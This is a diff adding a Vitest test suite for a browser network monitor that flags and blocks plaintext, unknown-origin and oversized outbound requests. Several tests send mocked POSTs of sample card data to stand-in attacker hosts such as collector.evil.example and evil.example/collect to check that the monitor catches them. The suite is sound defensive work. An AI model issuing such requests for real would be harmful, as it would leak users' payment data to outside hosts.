@@ -0,0 +1,151 @@
+import { describe, it, expect, vi, beforeEach, afterEach } from 'vitest';
+import { NetworkSentinel, NetworkSentinelOptions, measureBody } from '../../utils/networkSentinel';
+
+describe('measureBody', () => {
+    it('measures strings, binary data and forms in bytes', () => {
+        expect(measureBody(undefined)).toBe(0);
+        expect(measureBody('héllo')).toBe(6);
+        expect(measureBody(new Uint8Array(10))).toBe(10);
+        expect(measureBody(new URLSearchParams({ a: '1' }))).toBe(3);
+        const form = new FormData();
+        form.append('card', '4111');
+        expect(measureBody(form)).toBe(4);
+        expect(measureBody(new ReadableStream())).toBeUndefined();
+    });
+});
+
+describe('NetworkSentinel', () => {
+    let sentinel: NetworkSentinel | null = null;
+    let originalFetch: typeof fetch;
+    let fetchMock: ReturnType<typeof vi.fn>;
+
+    beforeEach(() => {
+        originalFetch = window.fetch;
+        fetchMock = vi.fn().mockResolvedValue({ ok: true });
+        window.fetch = fetchMock as unknown as typeof fetch;
+    });
+
+    afterEach(() => {
+        sentinel?.uninstall();
+        sentinel = null;
+        window.fetch = originalFetch;
+        vi.restoreAllMocks();
+    });
+
+    const install = (options: Partial<NetworkSentinelOptions> = {}) => {
+        const onFinding = vi.fn();
+        sentinel = new NetworkSentinel({ onFinding, ...options });
+        sentinel.install();
+        return onFinding;
+    };
+
+    it('flags plaintext HTTP to remote hosts but not to localhost', async () => {
+        const onFinding = install();
+
+        await fetch('http://api.example.com/orders?id=1');
+        await fetch('http://localhost:8080/dev');
+
+        expect(onFinding).toHaveBeenCalledTimes(1);
+        expect(onFinding).toHaveBeenCalledWith({
+            kind: 'insecure_transport',
+            url: 'http://api.example.com/orders',
+            origin: 'http://api.example.com',
+            method: 'GET',
+            api: 'fetch',
+            blocked: false,
+        });
+        expect(fetchMock).toHaveBeenCalledTimes(2);
+    });
+
+    it('flags origins outside the allowlist and reports each one once', async () => {
+        const onFinding = install({ allowedOrigins: ['https://*.example.com'] });
+
+        await fetch('/api/me');
+        await fetch('https://api.example.com/orders', { method: 'post', body: '{}' });
+        await fetch('https://tracker.evil.example/c');
+        await fetch('https://tracker.evil.example/c');
+
+        expect(onFinding).toHaveBeenCalledTimes(1);
+        expect(onFinding.mock.calls[0][0]).toMatchObject({ kind: 'unknown_origin', origin: 'https://tracker.evil.example' });
+    });
+
+    it('flags large uploads to unknown hosts only', async () => {
+        const onFinding = install({ maxUploadBytes: 1024 });
+        const body = 'x'.repeat(2048);
+
+        await fetch('/api/upload', { method: 'POST', body });
+        await fetch('https://collector.evil.example/p', { method: 'POST', body });
+        await fetch('https://cdn.example/small', { method: 'POST', body: 'ok' });
+
+        expect(onFinding).toHaveBeenCalledTimes(1);
+        expect(onFinding.mock.calls[0][0]).toMatchObject({ kind: 'large_upload', method: 'POST', bodyBytes: 2048 });
+    });
+
+    it('blocks flagged fetch requests with a network error and skips excluded URLs', async () => {
+        const onFinding = install({ allowedOrigins: [], block: true, exclude: ['https://siem.example/ingest'] });
+
+        await expect(fetch('https://evil.example/x')).rejects.toThrow(TypeError);
+        await fetch('https://siem.example/ingest/events');
+
+        expect(onFinding.mock.calls[0][0]).toMatchObject({ kind: 'unknown_origin', blocked: true });
+        expect(fetchMock).toHaveBeenCalledTimes(1);
+        expect(fetchMock).toHaveBeenCalledWith('https://siem.example/ingest/events', undefined);
+    });
+
+    it('matches global exclude patterns on every request', async () => {
+        const onFinding = install({ allowedOrigins: [], block: true, exclude: [/siem\.example/g] });
+
+        await fetch('https://siem.example/ingest/events');
+        await fetch('https://siem.example/ingest/events');
+
+        expect(onFinding).not.toHaveBeenCalled();
+        expect(fetchMock).toHaveBeenCalledTimes(2);
+    });
+
+    it('inspects and blocks XMLHttpRequest', async () => {
+        const send = vi.spyOn(XMLHttpRequest.prototype, 'send').mockImplementation(() => undefined);
+        const onFinding = install({ allowedOrigins: [], block: true });
+
+        const xhr = new XMLHttpRequest();
+        const onError = vi.fn();
+        xhr.addEventListener('error', onError);
+        xhr.open('POST', 'https://evil.example/collect');
+        xhr.send('card=4111');
+        await new Promise(resolve => setTimeout(resolve, 0));
+
+        expect(onFinding.mock.calls[0][0]).toMatchObject({ kind: 'unknown_origin', api: 'xhr', method: 'POST', bodyBytes: 9 });
+        expect(onError).toHaveBeenCalled();
+        expect(send).not.toHaveBeenCalled();
+    });
+
+    it('restores fetch and XMLHttpRequest on uninstall', () => {
+        const open = XMLHttpRequest.prototype.open;
+        install();
+        expect(window.fetch).not.toBe(fetchMock);
+
+        sentinel!.uninstall();
+
+        expect(window.fetch).toBe(fetchMock);
+        expect(XMLHttpRequest.prototype.open).toBe(open);
+    });
+
+    it('keeps XMLHttpRequest wrappers installed after it on uninstall and passes requests through', () => {
+        // Restored by vi.restoreAllMocks, whatever wraps it by then
+        const nativeSend = vi.spyOn(XMLHttpRequest.prototype, 'send').mockImplementation(() => undefined);
+        const onFinding = install({ allowedOrigins: [], block: true });
+        const sentinelSend = XMLHttpRequest.prototype.send;
+        const laterSend = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
+            return sentinelSend.call(this, body);
+        };
+        XMLHttpRequest.prototype.send = laterSend;
+
+        sentinel!.uninstall();
+
+        expect(XMLHttpRequest.prototype.send).toBe(laterSend);
+        const xhr = new XMLHttpRequest();
+        xhr.open('POST', 'https://evil.example/collect');
+        xhr.send('card=4111');
+        expect(onFinding).not.toHaveBeenCalled();
+        expect(nativeSend).toHaveBeenCalledWith('card=4111');
+    });
+});